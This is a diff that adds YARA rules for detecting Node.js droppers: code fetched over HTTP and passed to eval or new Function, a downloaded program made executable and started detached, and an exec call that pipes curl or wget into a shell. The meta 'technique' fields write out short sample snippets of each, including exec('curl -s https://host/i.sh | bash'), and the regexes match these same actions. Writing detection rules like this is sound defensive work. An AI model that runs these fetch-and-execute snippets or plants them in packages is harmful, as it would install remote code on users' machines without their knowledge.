@@ -261,3 +261,80 @@ rule node_smtp_account_pool_mailer : bot mailer
         for any i in (1..#lp) : ( $ct in (@lp[i] .. @lp[i] + 300) ) and
         for any j in (1..#sm) : ( $to in (@sm[j] .. @sm[j] + 300) )
 }
+
+/* Node droppers (session 19, lead): code fetched over HTTP(S) and given to
+ * eval or new Function; a program fetched, made executable and started in
+ * the background, detached from the installer (an npm package's install
+ * script that plants a miner or a bot); a shell told to fetch and run a
+ * script (curl ... | sh). A package installer that downloads its native
+ * binary runs it in the foreground to check its version; a bundler's hot
+ * reload loads modules, it does not eval an HTTP body. */
+private rule node__fetch
+{
+    strings:
+        $g1 = /\bhttps?\s{0,2}\.\s{0,2}(get|request)\s{0,2}\(/
+        $g2 = /\bfetch\s{0,2}\(\s{0,2}['"`]https?:/
+        $g3 = /\baxios\s{0,2}\.\s{0,2}get\s{0,2}\(/
+        $g4 = /require\s{0,2}\(\s{0,2}['"](node-fetch|axios|got|request)['"]\s{0,2}\)/
+        // the module under another name: const h = require('https'); h.get(url, ...)
+        $g5 = /require\s{0,2}\(\s{0,2}['"](node:)?https?['"]\s{0,2}\)/
+        $g6 = /\bfrom\s{1,4}['"](node:)?https?['"]/
+    condition:
+        any of them
+}
+
+rule node_remote_code_eval : bot
+{
+    meta:
+        description = "Node.js script that fetches code over HTTP(S) and runs it with eval() or new Function()"
+        severity = "high"
+        technique = "https.get(url, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) }); fetch(url).then(r => r.text()).then(t => new Function(t)())"
+        seen = "none"
+    strings:
+        $e1 = /\beval\s{0,2}\(\s{0,2}[A-Za-z_$][\w$.]{0,40}\s{0,2}\)/
+        $e2 = /\bnew\s{1,4}Function\s{0,2}\(\s{0,2}[A-Za-z_$][\w$.]{0,40}\s{0,2}\)/
+        $end1 = /\.on\s{0,2}\(\s{0,2}['"]end['"]/
+        $end2 = /\.then\s{0,2}\(/
+        $end3 = /\bawait\s/
+    condition:
+        filesize < 512KB and node__source and node__fetch and any of ($end*) and
+        for any i in (1..#end1 + #end2 + #end3) : (
+            for any j in (1..#e1) : ( @e1[j] > @end1[i] and @e1[j] < @end1[i] + 300 ) or
+            for any j in (1..#e1) : ( @e1[j] > @end2[i] and @e1[j] < @end2[i] + 300 ) or
+            for any j in (1..#e2) : ( @e2[j] > @end1[i] and @e2[j] < @end1[i] + 300 ) or
+            for any j in (1..#e2) : ( @e2[j] > @end2[i] and @e2[j] < @end2[i] + 300 ) or
+            for any j in (1..#e1) : ( @e1[j] > @end3[i] and @e1[j] < @end3[i] + 300 ) or
+            for any j in (1..#e2) : ( @e2[j] > @end3[i] and @e2[j] < @end3[i] + 300 ))
+}
+
+rule node_download_detached_exec : bot
+{
+    meta:
+        description = "Node.js script that downloads a program, makes it executable and starts it detached in the background"
+        severity = "high"
+        technique = "https.get(url).pipe(fs.createWriteStream(p)); fs.chmodSync(p, 0o755); spawn(p, [], { detached: true, stdio: 'ignore' }).unref()"
+        seen = "none"
+    strings:
+        $w1 = /\bcreateWriteStream\s{0,2}\(/
+        $w2 = /\bwriteFile(Sync)?\s{0,2}\(/
+        $x = /\bchmod(Sync)?\s{0,2}\([^)]{0,80}(0o?7[57]5|['"]7[57]5['"]|0x1ed|493)/
+        $d = /\bdetached\s{0,2}:\s{0,2}true/
+        $u = /\.unref\s{0,2}\(\s{0,2}\)/
+        $s = /\b(spawn|execFile|fork)\s{0,2}\(/
+    condition:
+        filesize < 512KB and node__source and node__fetch and node__child_process and
+        any of ($w*) and $x and $d and $u and $s
+}
+
+rule node_exec_fetch_pipe_shell : bot
+{
+    meta:
+        description = "Node.js script that has a shell fetch a script and run it (curl/wget piped to sh or bash)"
+        severity = "high"
+        technique = "require('child_process').exec('curl -s https://host/i.sh | bash'); execSync(`wget -qO- ${u} | sh`)"
+        seen = "none"
+    strings:
+        $p = /\b(exec|execSync|spawn|spawnSync)\s{0,2}\(\s{0,2}['"`][^'"`\n]{0,120}\b(curl|wget)\s[^'"`\n|]{0,200}\|\s{0,2}(sudo\s{1,4})?(ba|z|da)?sh\b/
+    condition:
+        filesize < 512KB and node__source and node__child_process and $p
+}
